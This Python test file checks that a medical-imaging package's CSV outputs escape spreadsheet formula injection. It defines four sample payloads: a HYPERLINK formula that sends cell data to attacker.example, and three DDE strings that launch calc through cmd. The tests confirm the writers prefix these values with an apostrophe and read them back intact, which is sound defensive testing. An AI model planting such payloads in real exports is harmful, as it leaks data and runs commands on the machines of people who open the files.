"""Every CSV the commands write opens in a spreadsheet as text, never as a formula: a cell that came from an
input (a case id, a visit, segment or feature name, a reason) and begins with ``=``, ``+``, ``-`` or ``@``
gets a leading apostrophe (``core.files.spreadsheet_safe``, as the web page's CSV export), numbers stay
numbers, and the survival tables this package reads back give the ids and names as they were."""

from __future__ import annotations

import csv
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from TACEResponseLib.core.files import spreadsheet_safe

LINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
CALC = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DASH = "-2+3+cmd|' /C calc'!A0"
HOSTILE = [LINK, CALC, AT, DASH]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would run: text starting with a formula character that is not a number."""
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and spreadsheet_safe(c) != c]


def _assert_safe(path: Path, *expected: str) -> list[str]:
    cells = _cells(path)
    assert not _formulas(cells), _formulas(cells)
    for value in expected:
        assert "'" + value in cells, (value, cells[:40])
    return cells


def test_evaluate_predictions_csv(tmp_path):
    from TACEResponseLib.training.evaluation import CasePrediction, write_predictions_csv

    predictions = [CasePrediction(case_id, "PR", [0.1, 0.6, 0.2, 0.1], 4) for case_id in (LINK, "HCC_007")]
    cells = _assert_safe(write_predictions_csv(tmp_path / "predictions.csv", predictions, ["CR", "PR", "SD", "PD"],
                                               [0, 1]), LINK)
    assert "HCC_007" in cells and "0.700000" in cells  # p_objective_response: a number as written


def test_assess_csv(tmp_path):
    from TACEResponseLib.assessment.criteria import Response
    from TACEResponseLib.assessment.outputs import csv_text

    response = Response("mRECIST", "mm", "PR", CALC, 31.0, 2.0, 52.0, 52.0, AT, -0.404, 0.05, -0.404, 0.05)
    visit = SimpleNamespace(name=LINK, responses={"mRECIST": response})  # names from a visits manifest
    path = tmp_path / "assessment.csv"
    path.write_text(csv_text(SimpleNamespace(followups=[visit])), encoding="utf-8")
    cells = _assert_safe(path, LINK, CALC, AT)
    assert "-40.40" in cells  # a negative change stays a number


def test_cohort_label_csv(tmp_path):
    from TACEResponseLib.assessment.labels import _write_rows

    path = tmp_path / "labels.csv"
    _write_rows(path, [{"case_id": DASH, "label": "PR", "arterial": "/data/p1/ct"}, {"case_id": "-7", "label": "SD"}])
    cells = _assert_safe(path, DASH)
    assert "-7" in cells  # an id that is a number is not changed


def test_cohort_import_csvs(tmp_path):
    from TACEResponseLib.imaging.cohort_import import ImportReport, write_import

    report = ImportReport("hcc-tace-seg", "/data", str(tmp_path), {}, [])
    written = write_import(tmp_path, [{"case_id": AT, "arterial": "images/1", "segmentation": ""}],
                           ["case_id", "arterial", "segmentation"],
                           [{"case_id": AT, "time_months": 12.5, "event": 1, "BCLC": float("nan")}],
                           ["case_id", "time_months", "event", "BCLC"], report, time.perf_counter())
    _assert_safe(written["manifest.csv"], AT)
    cells = _assert_safe(written["survival.csv"], AT)
    assert "12.5" in cells and "" in cells  # numbers as numbers, NaN blank


def _features() -> pd.DataFrame:
    rng = np.random.default_rng(5)
    ids = pd.Index([LINK, CALC, "-7", "HCC_001", "HCC_002"], name="case_id")
    return pd.DataFrame(rng.normal(size=(5, 3)) - 2, index=ids, columns=[AT, "arterial_f0001", DASH])


def test_survival_feature_table_is_safe_and_reads_back_as_written(tmp_path):
    from TACEResponseLib.survival.deep_features import read_feature_table, write_feature_table

    table = _features()
    path = write_feature_table(table, tmp_path / "features.csv", {"note": "test"})
    _assert_safe(path, LINK, CALC, AT, DASH)
    back, _ = read_feature_table(path)
    pd.testing.assert_frame_equal(back, table, check_exact=True)


def test_survival_signature_stage_is_safe_and_loads_as_saved(tmp_path):
    from TACEResponseLib.survival.fitting import SignatureStage, SurvivalConfig
    from TACEResponseLib.survival.selection import Signature

    features = _features()
    signature = Signature([AT, DASH], [0.5, -0.25], [0.0, 0.0], [1.0, 1.0], 0.5, 0.1)
    scores = pd.DataFrame({"cohort": ["training"] * 3 + ["validation"] * 2, "os_months": [3.0, 9.5, 12.0, 4.0, 20.0],
                           "death": [1, 0, 1, 1, 0], "signature": signature.score(features)},
                          index=features.index)
    SignatureStage(signature, {}, scores, SurvivalConfig(), training_features=features).save(tmp_path)
    _assert_safe(tmp_path / "signature_scores.csv", LINK, CALC)
    _assert_safe(tmp_path / "signature_training_features.csv", LINK, CALC, AT, DASH)
    stage = SignatureStage.load(tmp_path)
    pd.testing.assert_frame_equal(stage.scores, scores, check_exact=True)
    pd.testing.assert_frame_equal(stage.training_features, features, check_exact=True)
    np.testing.assert_array_equal(stage.signature.score(stage.training_features), signature.score(features))


def test_survival_icc_table_reads_back_as_written(tmp_path):
    from TACEResponseLib.survival.reproducibility import Reproducibility

    values = pd.Series([0.9, 0.4, 0.8], index=[AT, "arterial_f0001", DASH], name="ICC(2,1)")
    icc = Reproducibility("ICC(2,1)", 0.75, values, [AT, DASH], "repeat.csv", 5)
    path = icc.write_csv(tmp_path / "icc.csv")
    _assert_safe(path, AT, DASH)
    back = Reproducibility.read_csv(path, icc.to_dict())
    assert back.kept == [AT, DASH] and list(back.values.index) == list(values.index)


def test_survival_split_csv(tmp_path):
    from TACEResponseLib.survival.images import _write_split

    files: dict[str, str] = {}
    _write_split(tmp_path, files, pd.Index([LINK, "HCC_001"]), pd.Index([CALC]))
    _assert_safe(tmp_path / files["split"], LINK, CALC)


@pytest.mark.parametrize("read, meant", [(f"'{LINK}", LINK), (f"'{DASH}", DASH), ("'-1.5", "'-1.5"),
                                         ("'plain", "'plain"), ("-1.5", "-1.5"), ("", "")])
def test_reading_back_undoes_only_what_writing_did(read, meant):
    from TACEResponseLib.core.files import from_spreadsheet_safe

    assert from_spreadsheet_safe(read) == meant
